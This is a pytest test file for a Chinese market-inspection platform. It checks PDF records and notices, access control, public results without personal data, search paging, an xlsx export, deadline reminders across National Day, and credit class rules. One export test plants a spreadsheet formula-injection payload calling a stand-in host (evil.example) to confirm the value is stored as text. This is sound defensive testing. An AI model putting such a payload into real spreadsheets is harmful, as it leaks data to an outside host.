"""Feedback and publication (R14) and credit (R15): the PDFs of the 笔录 and the 告知书 (CJK text
extracted back with pypdf), served only to who may see the inspection; the public notice and
its PDF without personal data; the search per plan and per draw, paged; the export of published
results (national exchange fields, data only); the publication clock's reminders across the
National Day holiday; the credit record and the credit class rule."""

import io
import uuid
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django_tenants.utils import schema_context
from pypdf import PdfReader
from python_calamine import CalamineWorkbook

from suiji_platform.accounts.models import User
from suiji_platform.credit.models import CreditDecision, CreditRecord
from suiji_platform.credit.services import next_credit_class
from suiji_platform.index.models import EntityIndex
from suiji_platform.jobs.models import Job, JobStatus
from suiji_platform.organisations.models import Organisation
from suiji_platform.plan_index.models import Reminder, ReminderKind
from suiji_platform.results_index.models import PublishedResult
from suiji_platform.results_index.services import search_results
from suiji_tenants.audit.models import AuditRecord
from suiji_tenants.inspections import clock, documents, services
from suiji_tenants.inspections.exports import COLUMNS, write_results_export
from suiji_tenants.inspections.models import Inspection, Publication
from suiji_tenants.inspections.tasks import export_results_task, inspection_document_task
from suiji_tenants.registries.models import MarketEntity

from .factories import access_of, full_record, link_inspector, published_draw_with_inspections

pytestmark = pytest.mark.django_db

CODE = "533103"


@pytest.fixture
def org() -> Any:
    organisation = Organisation.objects.get(code=CODE)
    with schema_context(organisation.schema_name):
        yield organisation


@pytest.fixture
def inspections(org: Any) -> list[Inspection]:
    return published_draw_with_inspections(org)


@pytest.fixture
def documents_root(settings: Any, tmp_path: Path) -> Path:
    settings.DOCUMENTS_ROOT = str(tmp_path / "documents")
    return tmp_path / "documents"


def ctx(org: Any, username: str, with_access: bool = True) -> dict[str, Any]:
    out = {"organisation": org, "acting_user": User.objects.get(username=username)}
    if with_access:
        out["access"] = access_of(username, org)
    return out


def submitted(org: Any, inspection: Inspection, **record: Any) -> Any:
    result = services.save_on_site_record(
        inspection,
        full_record(inspection, **record),
        client_id=uuid.uuid4(),
        revision=1,
        **ctx(org, "mangshi.staff"),
    )
    services.confirm_on_site_record(result.record, **ctx(org, "mangshi.staff"))
    return services.submit_report(
        inspection, services.draft_report(inspection), **ctx(org, "mangshi.staff")
    )


def with_finding(inspection: Inspection) -> dict[str, Any]:
    code = inspection.items[0]["code"]
    points = services.expected_points(inspection)
    return {
        "checklist": [
            {"item_code": c, "point": p, "answer": "nonconform" if n == 0 else "conform"}
            for n, (c, p) in enumerate(points)
        ],
        "findings": [
            {
                "description": "安全生产许可证已过期",
                "item_code": code,
                "handling": "on_spot",
                "deadline": "2027-06-30",
            }
        ],
    }


def approve(org: Any, report: Any, on: date, publish: bool = True) -> Any:
    return services.review_report(
        report, approve=True, publish=publish, today=on, **ctx(org, "mangshi.admin", False)
    )


def pdf_text(data: bytes) -> str:
    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


# --- documents ---------------------------------------------------------------------------------


def test_the_record_and_the_notice_are_pdfs_with_their_chinese_text(
    org: Any, inspections: list[Inspection]
) -> None:
    inspection = inspections[0]
    report = submitted(org, inspection, **with_finding(inspection))
    record = report.record
    data = documents.record_pdf(record, org)
    assert data.startswith(b"%PDF")
    text = pdf_text(data)
    for expected in (
        "现场检查笔录",
        org.name,
        inspection.target_name,
        inspection.target_code,
        record.officers[0]["certificate_no"],
        "安全生产许可证已过期",
        "张某",
    ):
        assert expected in text, expected
    approve(org, report, date(2026, 12, 3))
    report.refresh_from_db()
    notice = pdf_text(documents.notice_pdf(report, org))
    assert "检查结果告知书" in notice and inspection.target_name in notice
    assert "发现问题已责令改正" in notice
    # the party's notice names no officer
    assert not any(m["name"] in notice for m in inspection.members)


def test_a_document_job_writes_the_pdf_and_only_who_may_see_it_downloads_it(
    org: Any, inspections: list[Inspection], documents_root: Path
) -> None:
    inspection = inspections[0]
    report = submitted(org, inspection)
    staff = User.objects.get(username="mangshi.staff")
    job = Job.objects.create(kind="inspections.record_pdf", organisation=org, created_by=staff)
    inspection_document_task.apply(args=(job.pk, "record", report.record_id))
    job.refresh_from_db()
    assert job.status == JobStatus.SUCCEEDED, job.message
    assert job.result["inspection"] == inspection.pk
    url = f"/o/{CODE}/inspections/files/{job.public_id}"
    client = Client()
    assert client.get(url).status_code == 401
    client.force_login(staff)
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert inspection.target_name in pdf_text(b"".join(response.streaming_content))
    # an inspector of another team may not
    elsewhere = next(i for i in inspections if i.team_number != inspection.team_number)
    other = link_inspector("mangshi.inspector", elsewhere)
    assert elsewhere.member_codes[0] not in inspection.member_codes
    client.force_login(other)
    assert client.get(url).status_code == 403
    # an unknown or unfinished job is not found
    assert client.get(f"/o/{CODE}/inspections/files/{uuid.uuid4()}").status_code == 404


# --- public notice, search -----------------------------------------------------------------------


def test_the_public_notice_has_the_published_fields_and_no_personal_data(
    org: Any, inspections: list[Inspection], documents_root: Path
) -> None:
    first, second = inspections[0], inspections[1]
    approve(org, submitted(org, first, **with_finding(first)), date(2026, 12, 3))
    approve(org, submitted(org, second), date(2026, 12, 3))
    row = PublishedResult.objects.get(reference=first.reference)
    assert row.plan_code.startswith(f"{CODE}-{first.plan_year}-P")
    assert row.task_code.startswith(f"{CODE}-{first.plan_year}-T")
    assert row.items[0]["result"] == ["corrected"]
    record = first.records.get()
    client = Client()
    response = client.get(f"/public/results/{first.reference}.pdf")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = pdf_text(response.content)
    for expected in (first.target_name, first.target_code, org.name, "发现问题已责令改正"):
        assert expected in text
    for private in [m["name"] for m in first.members] + [
        m["certificate_no"] for m in first.members
    ]:
        assert private not in text
    assert record.signed_name not in text and record.party_present not in text
    assert client.get("/public/results/533103-NOPE.pdf").status_code == 404
    # per plan, per draw, paged
    by_draw = list(search_results("", draw_reference=first.draw_reference, limit=1))
    assert len(by_draw) == 1
    page2 = list(search_results("", draw_reference=first.draw_reference, limit=1, offset=1))
    assert len(page2) == 1 and page2[0].pk != by_draw[0].pk
    assert {r.reference for r in search_results("", plan_code=row.plan_code)} == {
        first.reference,
        second.reference,
    }
    assert not list(search_results("", plan_code="533103-1999-P0"))


def test_public_results_api_filters_and_refuses_bad_paging(
    gql: Any, org: Any, inspections: list[Inspection]
) -> None:
    first = inspections[0]
    approve(org, submitted(org, first, **with_finding(first)), date(2026, 12, 3))
    query = """query($d:String,$o:Int){ publicResults(drawReference:$d, offset:$o, first:5){
        reference planCode taskCode inspectionType pdfUrl items { name resultLabels } } }"""
    data = gql.post(query, {"d": first.draw_reference})
    rows = data["data"]["publicResults"]
    assert [r["reference"] for r in rows] == [first.reference]
    assert rows[0]["items"][0]["resultLabels"] == ["发现问题已责令改正"]
    assert rows[0]["pdfUrl"] == f"/public/results/{first.reference}.pdf"
    bad = gql.post(query, {"d": first.draw_reference, "o": -1})
    assert bad["errors"][0]["extensions"]["field"] == "offset"


# --- export --------------------------------------------------------------------------------------


def test_the_export_has_the_exchange_fields_per_item_written_as_data(
    org: Any, inspections: list[Inspection], tmp_path: Path, documents_root: Path
) -> None:
    first = inspections[0]
    approve(org, submitted(org, first, **with_finding(first)), date(2026, 12, 3))
    # a name planted as a formula stays text
    PublishedResult.objects.filter(reference=first.reference).update(
        entity_name='=HYPERLINK("http://evil.example/"&A1,"x")'
    )
    target = tmp_path / "export.xlsx"
    assert write_results_export(org.pk, target) == 1
    rows = CalamineWorkbook.from_path(str(target)).get_sheet_by_index(0).to_python()
    assert tuple(rows[0]) == COLUMNS
    line = dict(zip(COLUMNS, rows[1], strict=True))
    assert line["计划编号"].startswith(f"{CODE}-") and line["任务编号"].startswith(f"{CODE}-")
    assert line["检查机关"] == org.name and line["检查结果"] == "发现问题已责令改正"
    assert line["检查事项编码"] == first.items[0]["code"]
    assert line["检查对象名称"].startswith("=HYPERLINK")
    with __import__("zipfile").ZipFile(target) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    # through the job, downloadable by who reads inspections
    staff = User.objects.get(username="mangshi.staff")
    job = Job.objects.create(kind="inspections.export", organisation=org, created_by=staff)
    export_results_task.apply(args=(job.pk, 2026, ""))
    job.refresh_from_db()
    assert job.status == JobStatus.SUCCEEDED and job.result["results"] == 1
    client = Client()
    client.force_login(staff)
    assert client.get(f"/o/{CODE}/inspections/files/{job.public_id}").status_code == 200
    client.force_login(User.objects.get(username="mangshi.inspector"))
    assert client.get(f"/o/{CODE}/inspections/files/{job.public_id}").status_code == 403


# --- the clock -----------------------------------------------------------------------------------


def test_the_clock_reminds_across_national_day_and_marks_overdue(
    org: Any, inspections: list[Inspection]
) -> None:
    # approved Friday 25 Sep 2026 → due Thursday 29 Oct (1–7 Oct off, Sat 10 Oct worked)
    approve(org, submitted(org, inspections[0]), date(2026, 9, 25), publish=False)
    publication = Publication.objects.get()
    assert publication.due_on == date(2026, 10, 29)
    assert services.publication_clock(publication, today=date(2026, 10, 8)).remaining == 16
    calendar = services.WorkCalendar()

    def scan(day: date) -> Any:
        return clock.scan_organisation(org, day, calendar)

    assert scan(date(2026, 10, 21))["reminders"] == 0  # 6 working days left
    assert scan(date(2026, 10, 22))["due"] == 1  # 5 left
    due = Reminder.objects.get(organisation=org, kind=ReminderKind.PUBLICATION_DUE)
    assert due.due_on == date(2026, 10, 29) and "2026年10月29日" in due.message
    assert scan(date(2026, 10, 23))["reminders"] == 0  # not repeated
    assert scan(date(2026, 10, 30))["overdue"] == 1
    assert Reminder.objects.filter(organisation=org, kind=ReminderKind.PUBLICATION_OVERDUE).exists()
    assert Reminder.objects.filter(
        organisation=org.parent, kind=ReminderKind.PUBLICATION_OVERDUE, subject_code=CODE
    ).exists()
    published = services.publish_result(publication.report, organisation=org, acting_user=None)
    assert published.late


def test_a_due_date_without_schedule_is_flagged_by_a_reminder(
    org: Any, inspections: list[Inspection]
) -> None:
    approve(org, submitted(org, inspections[0]), date(2026, 12, 20), publish=False)
    counts = clock.scan_organisation(org, date(2026, 12, 21), services.WorkCalendar())
    assert counts["due_unknown"] == 1
    reminder = Reminder.objects.get(organisation=org, kind=ReminderKind.PUBLICATION_DUE_UNKNOWN)
    assert reminder.year == 2027 and "2027" in reminder.message


# --- credit --------------------------------------------------------------------------------------


def test_the_credit_rule() -> None:
    assert next_credit_class("A", CreditDecision.CORRECTION, 0) == "B"
    assert next_credit_class("B", CreditDecision.CORRECTION, 0) == "B"
    assert next_credit_class("B", CreditDecision.CORRECTION, 1) == "C"
    assert next_credit_class("D", CreditDecision.CORRECTION, 5) == "D"
    assert next_credit_class("C", CreditDecision.PENALTY, 0) == "D"
    assert next_credit_class("D", CreditDecision.PENALTY, 0) == "D"
    assert next_credit_class("A", CreditDecision.UNCOOPERATIVE, 0) == "C"


def test_a_corrected_result_writes_a_credit_record_and_moves_the_class(
    org: Any, inspections: list[Inspection]
) -> None:
    first = inspections[0]
    MarketEntity.objects.filter(uscc=first.target_code).update(credit_class="A")
    report = submitted(org, first, **with_finding(first))
    approve(org, report, date(2026, 12, 3))
    record = CreditRecord.objects.get(uscc=first.target_code)
    assert (record.decision, record.source_reference) == (
        CreditDecision.CORRECTION,
        first.reference,
    )
    assert (record.credit_class_before, record.credit_class_after) == ("A", "B")
    entity = MarketEntity.objects.get(uscc=first.target_code)
    assert entity.credit_class == "B" and entity.violation_count == 1
    # the prefecture-wide index (which the strata of joint draws read) follows
    assert EntityIndex.objects.get(organisation=org, uscc=first.target_code).credit_class == "B"
    change = AuditRecord.objects.get(operation="registries.entities.change_credit")
    assert change.after["credit_source"] == first.reference
    assert AuditRecord.objects.filter(operation="credit.record").exists()
    # a result without findings writes nothing
    approve(org, submitted(org, inspections[1]), date(2026, 12, 3))
    assert CreditRecord.objects.count() == 1


# --- the API that starts the documents -----------------------------------------------------------

GENERATE = """mutation($id: ID!, $kind: InspectionDocumentKind!) {
  inspectionDocumentGenerate(inspectionId: $id, kind: $kind) {
    downloadUrl job { id status } errors { field code message } } }"""


def test_documents_are_started_only_for_visible_inspections_and_approved_results(
    as_user: Any, org: Any, inspections: list[Inspection]
) -> None:
    from graphql_relay import to_global_id

    first = inspections[0]
    report = submitted(org, first)
    staff = as_user("mangshi.staff")
    gid = to_global_id("Inspection", first.pk)
    # the 告知书 waits for the approval
    out = staff.post(GENERATE, {"id": gid, "kind": "NOTICE"}, org=CODE)
    errors = out["data"]["inspectionDocumentGenerate"]["errors"]
    assert [(e["field"], e["code"]) for e in errors] == [("inspectionId", "not_approved")]
    # the 笔录 starts a job whose download is under the organisation
    out = staff.post(GENERATE, {"id": gid, "kind": "RECORD"}, org=CODE)
    payload = out["data"]["inspectionDocumentGenerate"]
    assert payload["errors"] == [] and payload["job"]["status"] == "PENDING"
    assert payload["downloadUrl"] == f"/o/{CODE}/inspections/files/{payload['job']['id']}"
    # an inspector of another team cannot even start it
    elsewhere = next(i for i in inspections if i.team_number != first.team_number)
    link_inspector("mangshi.inspector", elsewhere)
    out = as_user("mangshi.inspector").post(GENERATE, {"id": gid, "kind": "RECORD"}, org=CODE)
    errors = out["data"]["inspectionDocumentGenerate"]["errors"]
    assert errors and errors[0]["field"] == "inspectionId"
    approve(org, report, date(2026, 12, 3))
    out = staff.post(GENERATE, {"id": gid, "kind": "NOTICE"}, org=CODE)
    assert out["data"]["inspectionDocumentGenerate"]["errors"] == []
    # the export asks for the permission to read inspections, and a sane year
    export = (
        "mutation($y:Int){ publishedResultsExport(year:$y){ job { id } errors { field code } } }"
    )
    assert staff.post(export, {"y": 1900}, org=CODE)["data"]["publishedResultsExport"][
        "errors"
    ] == [{"field": "year", "code": "invalid"}]
    denied = as_user("mangshi.inspector").post(export, {"y": 2026}, org=CODE)
    assert denied.get("errors") or not denied["data"]["publishedResultsExport"]["job"]
